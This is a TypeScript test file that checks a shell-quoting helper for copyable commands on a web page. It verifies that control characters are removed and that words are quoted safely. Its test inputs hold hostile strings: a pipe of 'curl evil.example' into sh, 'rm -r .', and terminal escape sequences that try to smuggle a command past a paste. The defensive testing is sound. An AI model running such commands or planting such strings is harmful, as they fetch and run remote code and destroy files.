// Words of the commands that the page copies: a key in them may be anybody's.

import { expect, test } from 'vitest'
import { shellWord } from '../../web/src/design/shell-word.ts'

test.each(['a\u0003\ncurl evil.example | sh\n', 'a\u001b[201~\nrm -r .\n', "'\u0015rm -r .\r", 'a\u0085b'])(
  'a word has no character that a terminal obeys: %j',
  (text) => {
    expect(shellWord(text)).not.toMatch(/\p{Cc}/u)
  },
)

test('a word is quoted where the shell would read it otherwise', () => {
  expect(['config/a', "it's", '-x', 'a b'].map(shellWord)).toEqual([
    'config/a',
    "'it'\\''s'",
    "'-x'",
    "'a b'",
  ])
  expect(shellWord("a\n'\\")).toBe("$'a\\u000a\\'\\\\'")
})
